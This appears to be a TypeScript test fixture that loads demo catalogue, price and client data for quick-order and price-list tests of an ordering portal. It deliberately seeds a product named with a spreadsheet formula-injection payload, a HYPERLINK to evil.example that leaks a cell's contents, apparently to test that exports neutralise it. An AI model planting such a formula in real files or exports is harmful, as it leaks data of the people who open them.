// The demo data set (ops/demo) loaded through the real flows into a fresh database, plus what the
// quick-order and price-list tests need on top: packs (product units), a product whose name is a
// formula, and the pricing of the demo's legal entities.
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { expect } from 'vitest';
import { REPO_DIR } from '../../src/schemas/index.ts';
import { resolvePricing, type Pricing } from '../../src/portal/pricing.ts';
import { createTestPipeline, type TestPipeline } from '../helpers/pipeline.ts';

const DEMO = ['managers', 'cities', 'price-types', 'warehouses', 'groups', 'products', 'prices', 'stock', 'clients', 'legal-entities', 'contacts',
  'contact-legal-entities', 'agreements'];

/** A name a spreadsheet would run as a formula if it were written as one. */
export const INJECTION_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Скидка 90 %")';

const EXTRA: Record<string, string[]> = {
  // ops/demo/products.csv: sku;name;article;barcode;group;unit;popularity;promotion
  products: [`SKU-INJ;"${INJECTION_NAME.replaceAll('"', '""')}";@ART-INJ;;breakers;pcs;;`],
  prices: ['SKU-INJ;retail;100,00;RUB', 'SKU-INJ;wholesale;90,00;RUB', 'SKU-INJ;dealer;80,00;RUB'],
};

/** Packs: a box of 12 breakers, a 100 m reel of cable (SKU-00004, sold by the metre), a pallet of 480 lamps. */
export const UNITS = 'sku;unit;factor;barcode\nSKU-00001;box;12;2000000000011\nSKU-00001;pallet;480;\nSKU-00004;reel;100;\n';

/** Quantity tiers on SKU-00010's wholesale price (LE1's agreement): 10+ at 90, 100+ at 80. */
export const TIERED = 'sku;price_type;price;currency;valid_from;valid_to;tiers\nSKU-00010;wholesale;100;RUB;2020-01-01;;10:90|100:80\n';

export interface FilesFixture {
  tp: TestPipeline;
  ids: { contact(code: string): Promise<number>; legalEntity(code: string): Promise<number>; city(code: string): Promise<number> };
  pricingOf(legalEntity: string): Promise<Pricing>;
  close(): Promise<void>;
}

export async function filesFixture(label: string): Promise<FilesFixture> {
  const tp = await createTestPipeline(label);
  try {
    for (const name of [...DEMO, 'product-units', 'price-periods']) await tp.applyFlowFile(`ops/flows/${name}-csv.yaml`);
    for (const name of DEMO) {
      let content = await readFile(path.join(REPO_DIR, 'ops/demo', `${name}.csv`), 'utf8');
      if (EXTRA[name]) content = `${content.trimEnd()}\n${EXTRA[name].join('\n')}\n`;
      const run = await tp.ingest(`${name}-csv`, content, `${name}.csv`);
      expect(run.state, `${name}: ${run.error?.message ?? ''}`).toBe('done');
      expect(run.rows.rejected, `${name} rejected rows`).toBe(0);
    }
    const run = await tp.ingest('product-units-csv', UNITS, 'units.csv');
    expect(run.state).toBe('done');
    const tiers = await tp.ingest('price-periods-csv', TIERED, 'tiers.csv');
    expect(tiers.state, tiers.error?.message).toBe('done');
    expect(tiers.rows.rejected).toBe(0);
  } catch (e) {
    await tp.close();
    throw e;
  }
  const id = (table: 'contacts' | 'legal_entities' | 'cities') => async (code: string) =>
    Number((await tp.rt.db.selectFrom(table).select('id').where('code', '=', code).executeTakeFirstOrThrow()).id);
  const ids = { contact: id('contacts'), legalEntity: id('legal_entities'), city: id('cities') };
  return {
    tp, ids,
    async pricingOf(le) {
      const r = await tp.rt.db.selectFrom('legal_entities as le').innerJoin('clients as c', 'c.id', 'le.client_id')
        .select(['le.id', 'le.client_id', 'c.city_id']).where('le.code', '=', le).executeTakeFirstOrThrow();
      return resolvePricing(tp.rt.db, { clientId: Number(r.client_id), legalEntityId: Number(r.id), cityId: r.city_id });
    },
    close: () => tp.close(),
  };
}

/** round(value × (1 − d/100), 2) half away from zero, on integers: the expected price, computed apart from SQL. */
export function expectedPrice(value: string, discountPercent: string): string {
  const [i, f = ''] = value.replace(',', '.').split('.');
  const cents6 = BigInt(i! + f.padEnd(6, '0')); // value × 10^6
  const [di, df = ''] = discountPercent.split('.');
  const d4 = BigInt(di! + df.padEnd(4, '0')); // discount × 10^4
  const num = cents6 * (1_000_000n - d4); // value × (1 − d/100) × 10^12
  const scaled = (num + 5n * 10n ** 9n) / 10n ** 10n; // to kopecks, half up
  const s = scaled.toString().padStart(3, '0');
  return `${s.slice(0, -2)}.${s.slice(-2)}`;
}
